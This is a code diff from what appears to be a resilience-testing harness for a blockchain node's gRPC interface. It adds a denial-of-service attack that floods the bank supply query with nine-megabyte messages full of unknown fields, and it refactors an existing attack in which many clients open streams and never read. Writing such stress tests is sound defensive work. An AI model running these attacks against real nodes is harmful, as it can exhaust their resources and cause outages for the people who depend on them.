@@ -1,4 +1,6 @@
 /** Attacks by connections: clients that do not read, send slowly, never finish, or disconnect. */
+import { once } from 'node:events'
+import type { IncomingHttpHeaders } from 'node:http2'
 import { callOf, ENDLESS, NOBODY } from './code.ts'
 import {
   type Attack,
@@ -77,17 +79,19 @@ export const unreadEvents: Attack = async (target) => (stop, count) =>
 /** Every account in one page: the first field of the page request is its limit. */
 const EVERY_ACCOUNT = Buffer.from([0, 0, 0, 0, 5, 0x0a, 0x03, 0x18, 0xe8, 0x07])
 
+const unary = (path: string) => ({
+  ':method': 'POST',
+  ':path': path,
+  'content-type': 'application/grpc',
+  te: 'trailers',
+})
+
 /** 40 gRPC clients make 250 calls each and take no byte. */
 export const unreadGrpc: Attack = async (target) => (stop, count) =>
   holdOpen(40, stop, count, () => {
     const session = openGrpc(target, 0)
     for (let i = 0; i < 250; i++) {
-      const stream = session.request({
-        ':method': 'POST',
-        ':path': '/sdk.auth.v1beta1.Query/Accounts',
-        'content-type': 'application/grpc',
-        te: 'trailers',
-      })
+      const stream = session.request(unary('/sdk.auth.v1beta1.Query/Accounts'))
       stream.on('error', () => {})
       // Headers come without a window.
       stream.once('response', ({ ':status': status }) => count(`status ${status}`))
@@ -95,6 +99,32 @@ export const unreadGrpc: Attack = async (target) => (stop, count) =>
     }
     return session
   })
+
+/** A gRPC message of nine megabytes: fields that the request does not have, two bytes each. */
+const FIELDS_BYTES = 9_000_000
+const FIELDS_HEAD = Buffer.alloc(5)
+FIELDS_HEAD.writeUInt32BE(FIELDS_BYTES, 1)
+const FIELDS = Buffer.concat([FIELDS_HEAD, Buffer.alloc(FIELDS_BYTES, Buffer.from([0x78, 0]))])
+
+/** Two gRPC clients send requests of millions of fields. */
+export const manyFields: Attack = async (target) => {
+  const sessions = [openGrpc(target), openGrpc(target)]
+  let next = 0
+  return (stop, count) =>
+    repeat(2, stop, count, async () => {
+      const stream = sessions[next++ % 2]!.request(unary('/sdk.bank.v1beta1.Query/TotalSupply'))
+      stream.end(FIELDS)
+      let code = 'disconnected'
+      for (const event of ['response', 'trailers'])
+        stream.once(event, (headers: IncomingHttpHeaders) => {
+          if (headers['grpc-status'] !== undefined) code = `code ${headers['grpc-status']}`
+        })
+      stream.on('error', () => {})
+      stream.resume()
+      await once(stream, 'close')
+      return code
+    })
+}
 
 const SLOW_BODY_BYTES = 5_000_000
 
